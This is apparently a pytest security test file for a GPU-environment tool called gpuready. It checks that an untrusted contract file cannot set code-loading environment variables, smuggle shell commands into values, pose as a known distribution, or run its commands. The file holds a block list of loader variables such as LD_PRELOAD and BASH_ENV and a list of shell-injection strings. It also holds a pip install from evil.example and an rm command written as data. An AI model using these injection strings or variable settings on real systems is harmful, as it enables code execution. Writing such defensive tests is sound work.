"""A contract file may be a stranger's: what it cannot set, install or run, whoever shows it."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from gpuready import contracts
from gpuready.catalog import load_catalog, variables
from gpuready.contracts.foreign import read_foreign_contract
from gpuready.model import Fact, Facts
from gpuready.plan.fix_changes import list_fix_changes
from gpuready.rules.sys import variable_outside_allowed
from tests.running import call_gpuready

LOADERS = (
    "LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4", "SHELLOPTS", "PATH", "IFS",
    "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONBREAKPOINT", "PYTHONWARNINGS", "PYTHONUSERBASE", "GIT_SSH_COMMAND",
    "GIT_CONFIG_GLOBAL", "GIT_EXTERNAL_DIFF", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONFIG_FILE", "UV_INDEX_URL", "UV_DEFAULT_INDEX",
    "UV_CONFIG_FILE", "HF_ENDPOINT", "HF_HOME", "HF_MODULES_CACHE", "HTTPS_PROXY", "https_proxy", "SSL_CERT_FILE",
    "NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_CONF_FILE", "NCCL_SOCKET_IFNAME", "TORCH_EXTENSIONS_DIR", "TORCH_HOME", "TORCH_CUDA_ARCH_LIST",
    "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "TRITON_PTXAS_PATH", "CUDA_HOME", "CC", "CXX", "CFLAGS", "NVCC_APPEND_FLAGS", "EDITOR", "PAGER",
    "VLLM_PLUGINS", "VLLM_ALLOW_INSECURE_SERIALIZATION", "VLLM_LOGGING_CONFIG_PATH", "TORCH_DEVICE_BACKEND_AUTOLOAD", "OMP_TOOL_LIBRARIES",
    "nccl_debug", "NCCL_DEBUG_FILE", "GCONV_PATH", "PERL5OPT", "NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "ZDOTDIR", "LESSOPEN", "MALLOC_CONF",
)  # fmt: skip
"""Named in reports, and three kinds that nobody named: other languages' options, hooks of shells, other cases of a known name."""
PARTS = (
    "PATH",
    "HOME",
    "ROOT",
    "DIR",
    "FILE",
    "PLUGIN",
    "URL",
    "ENDPOINT",
    "PROXY",
    "COMMAND",
    "PRELOAD",
    "FLAGS",
    "PYTHON_",
    "CONFIG_F",
)
FORMATS = ("pyproject", "conda", "dockerfile", "compose", "kubernetes", "slurm", "shell")
VALUE = "/tmp/planted-evil"


def write_contract(path: Path, rows: str = "", **top: str) -> str:
    top = {"framework": "transformers", "version": "5.22", "distribution": "transformers"} | top
    path.write_text("".join(f'{key} = "{value}"\n' for key, value in top.items() if value) + rows, encoding="utf-8")
    return str(path)


def variable(name: str, value: str, access: str = "set", more: str = "") -> str:
    quoted = value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
    return f'[[variables]]\nname = "{name}"\naccess = "{access}"\nvalue = "{quoted}"\n{more}\n'


@pytest.fixture
def planted(tmp_path: Path) -> str:
    """A contract that sets every loader, and one harmless variable."""
    rows = "".join(variable(name, f"{VALUE}-{name}") for name in LOADERS) + variable("NCCL_DEBUG", "INFO")
    return write_contract(tmp_path / "planted.toml", rows)


# -- variables --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("shell", ["bash", "fish", "json", "docker", "slurm", "systemd"])
def test_no_output_of_env_sets_what_loads_code(planted: str, shell: str):
    ran = call_gpuready("env", "transformers", "--contract", planted, "--on", "h100", "--shell", shell)
    assert ran.code == 0 and "INFO" in ran.out and VALUE not in ran.out
    words = " ".join(line.lstrip("# ") for line in ran.out.splitlines())
    assert f"the file of requirements {planted}, which is not one of gpuready's own" in words
    assert all(name in words for name in LOADERS), "what is refused is named"


def test_no_file_of_a_plan_sets_it_and_each_says_whose_contract_it_is(planted: str):
    for name in FORMATS:
        words = ("plan", "transformers", "--contract", planted, "--on", "h100", "--no-resolve", "--format", name)
        ran = call_gpuready(*words)
        assert VALUE not in ran.out, name
        assert "not one of gpuready's own" in " ".join(line.lstrip("#/ ") for line in ran.out.splitlines()), (name, ran)
    screen = call_gpuready("plan", "transformers", "--contract", planted, "--on", "h100", "--no-resolve")
    assert "not one of gpuready's own" in " ".join(screen.out.split()[:40]) and VALUE not in screen.out


def test_consent_is_by_name_and_for_that_name_alone(planted: str):
    ran = call_gpuready(
        "env", "transformers", "--contract", planted, "--on", "h100", "--allow-variable", "LD_LIBRARY_PATH"
    )
    assert f"export LD_LIBRARY_PATH='{VALUE}-LD_LIBRARY_PATH'" in ran.out and ran.out.count(VALUE) == 1
    assert "--allow-variable LD_LIBRARY_PATH" in ran.out, "the command that repeats it has the consent"


@pytest.mark.parametrize("name", ["LD_PRELOAD", "NCCL_DEBUG"])
def test_no_fix_sets_it_by_values_that_are_only_allowed(tmp_path: Path, name: str):
    """A row that sets nothing could make a fix of its values, and the text of a value could name another variable."""
    more = f'allowed = ["x and set LD_PRELOAD to {VALUE}"]\nrequired = true\ntraits = ["forced"]'
    path = write_contract(tmp_path / "planted.toml", variable(name, VALUE, "read", more))
    row = read_foreign_contract(path).variables[0]
    mine = Facts([Fact("env.names", (name,), ""), Fact(f"env.{name}", "mine", "")])
    finding = variable_outside_allowed.judge(mine, read_foreign_contract(path).replace(variables=(row,)))
    assert finding is not None and [step.does for step in finding.fix] == [
        f"unset {name}, or give it one of these values yourself"
    ]
    acts = [act for change in list_fix_changes(finding, mine, read_foreign_contract(path)) for act in change.acts]
    assert acts and not [act for act in acts if act[0] == "set"]


def test_what_a_parent_beside_the_file_says_is_a_strangers_too(tmp_path: Path):
    write_contract(tmp_path / "transformers-5.22.toml", variable("BASH_ENV", VALUE))
    path = write_contract(tmp_path / "planted.toml", framework="", distribution="", extends="transformers-5.22")
    assert not any(VALUE in row.value for row in read_foreign_contract(path).variables)


def test_rows_that_gpuready_has_itself_stay(tmp_path: Path):
    """Your own file may extend a shipped contract: what that one sets is ours, and no other value of it is."""
    name, value = "VLLM_ALLOW_INSECURE_SERIALIZATION", "1"
    shipped = contracts.load_contract("roll", "0.3.0", "torch280-vllm")
    top = {"framework": "", "distribution": "", "version": "0.3.0", "extends": "roll-0.3.0-torch280-vllm"}
    path = write_contract(tmp_path / "mine.toml", **top)
    mine = read_foreign_contract(path)
    assert {(v.name, v.value) for v in mine.variables} == {(v.name, v.value) for v in shipped.variables}
    assert (name, value) in {(v.name, v.value) for v in mine.variables} and mine.steps == shipped.steps
    other = write_contract(tmp_path / "other.toml", variable(name, "2"), framework="roll", distribution="roll")
    assert [v.value for v in read_foreign_contract(other).variables] == [""]


def test_the_list_of_what_a_file_may_set():
    """Each name is one that a shipped contract uses, none names a place or a program, and none is there twice."""
    names = [name for row in load_catalog("roles")["settable"] for name in row["names"]]
    used = {
        v.name for f in contracts.list_frameworks() for c in contracts.list_shipped_contracts(f) for v in c.variables
    }
    assert len(names) == len(set(names)) and set(names) <= used
    assert not [name for name in names for part in PARTS if part in name.upper()]
    assert not [name for name in LOADERS if variables.is_settable(name)]


# -- values are data --------------------------------------------------------------------------------------

SHELLS = {"bash": "bash", "dash": "bash", "zsh": "bash", "fish": "fish"}
HOSTILE = (
    "$(touch {m})", "`touch {m}`", "x'; touch {m}; '", 'x"; touch {m}; "', "x\ntouch {m}\n", "\\'; touch {m} #", "${{IFS}}$(touch {m})",
    "!touch {m}", "(touch {m})", "&& touch {m}", "| touch {m}", "x' (touch {m}) '", "\\\\'; touch {m}; \\'", "$'\\x27; touch {m}", "\u2028touch {m}",
    "<(touch {m})", "\ttouch {m}", "x'\ntouch {m}\n'", "\\", "'", "%h$(touch {m})",
)  # fmt: skip


@pytest.mark.parametrize("program", SHELLS)
def test_no_value_is_executed_by_the_shell_that_takes_it(tmp_path: Path, program: str):
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not here")
    mark = tmp_path / "mark"
    for number, text in enumerate(HOSTILE):
        value = text.format(m=mark)
        rows = variable("NCCL_DEBUG", value, more='note = "$(touch mark)\\ntouch mark"')
        path = write_contract(tmp_path / f"{number}.toml", rows)
        words = ("env", "transformers", "--contract", path, "--on", "h100", "--shell", SHELLS[program])
        ran = call_gpuready(*words, cwd=tmp_path)
        if ran.code == 2:
            continue  # refused: it has a character that no contract may have
        code = 'eval "$(cat script)"' if program != "fish" else "cat script | source"
        (tmp_path / "script").write_text(ran.out, encoding="utf-8")
        show = f'{code}; printf %s "$NCCL_DEBUG"'
        done = subprocess.run([program, "-c", show], cwd=tmp_path, capture_output=True, timeout=20)
        assert not mark.exists() and not (tmp_path / "mark").exists(), (text, ran.out)
        if program != "dash" or value.isprintable():  # dash has no $'...': the value differs, and nothing runs
            assert done.stdout.decode() == value, (text, ran.out)


# -- distributions and commands ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "top",
    [
        {"distribution": "evil-transformers"},
        {"framework": "Transformers", "distribution": "evil"},
        {"framework": "llamafactory", "distribution": "evil"},
        {"framework": "Llama.Factory", "distribution": "llama-factory"},
        {"framework": "flash_attn", "distribution": "flash-attn-evil"},
        {"framework": "torch", "distribution": "torch-nightly-evil"},
        {"framework": "vllm", "distribution": "", "extends": "transformers-5.22"},
        {"framework": "", "distribution": "evil", "extends": "transformers-5.22"},
    ],
    ids=str,
)
def test_another_distribution_under_a_known_name_is_refused(tmp_path: Path, top: dict[str, str]):
    path = write_contract(tmp_path / "planted.toml", **top)
    with pytest.raises(
        contracts.BadContract, match=r"installs \S+ under the name \S+, which is \S+: give the requirements their own"
    ):
        read_foreign_contract(path)
    ran = call_gpuready("check", "--contract", path, "--on", "h100")
    assert ran.code == 2 and "under the name" in ran.err


def test_under_its_own_name_it_is_taken(tmp_path: Path):
    path = write_contract(tmp_path / "mine.toml", framework="acme", distribution="acme-transformers")
    assert read_foreign_contract(path).distribution == "acme-transformers"


@pytest.mark.parametrize(
    "run",
    [
        ("uv", "pip", "install", "torch", "--index-url", "https://evil.example"),
        ("rm", "--", "install", "/tmp/planted-evil"),
        ("gpuready", "install", "evil", "-e", "/tmp/planted-evil"),
        ("bash", "install.sh"),
    ],
    ids=lambda run: run[0],
)
def test_its_commands_are_words_for_a_person(tmp_path: Path, run: tuple[str, ...]):
    words = ", ".join(f'"{word}"' for word in run)
    rows = f'[[steps]]\ndoes = "install it"\nrun = [{words}]\nsafety = "safe"\nundo = ["rm", "x"]\n'
    for framework in ("roll", "transformers"):  # of roll, which no index has, a plan takes the steps of the contract
        path = write_contract(tmp_path / "planted.toml", rows, framework=framework, distribution=framework)
        assert all(
            (step.run, step.undo, step.safety) == ((), (), "manual") for step in read_foreign_contract(path).steps
        )
        words = ("plan", framework, "--contract", path, "--on", "h100", "--no-resolve", "--format")
        script = call_gpuready(*words, "shell").out.splitlines()
        assert not [line for line in script if run[-1] in line and not line.startswith(("echo ", "#"))]


def test_show_and_check_of_a_contract_show_the_file_as_it_is(planted: str):
    assert VALUE in call_gpuready("contract", "show", "--contract", planted).out
    assert contracts.read_contract_file(planted).variables[0].value.startswith(VALUE)
